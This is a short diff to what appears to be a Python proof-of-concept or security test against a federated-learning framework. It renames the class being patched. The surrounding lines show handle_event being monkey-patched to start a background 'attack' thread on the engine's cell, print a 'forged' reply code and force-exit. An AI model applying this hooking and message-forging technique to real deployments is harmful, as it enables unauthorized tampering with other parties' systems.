@@ -82,7 +82,7 @@ def reach_out(kit: Path) -> None:
         print("forged", (reply.headers or {}).get(MessageHeaderKey.RETURN_CODE), flush=True)
         process.os._exit(0)
 
-    handle = site.SiteService.handle_event
+    handle = site.SiteComponent.handle_event
 
     def handle_event(self: Any, event_type: str, fl_ctx: Any) -> None:
         handle(self, event_type, fl_ctx)
@@ -90,7 +90,7 @@ def reach_out(kit: Path) -> None:
             cell = fl_ctx.get_engine().get_cell()
             threading.Thread(target=attack, args=(cell,), daemon=True).start()
 
-    site.SiteService.handle_event = handle_event
+    site.SiteComponent.handle_event = handle_event
     process.run(kit, None)
 
 
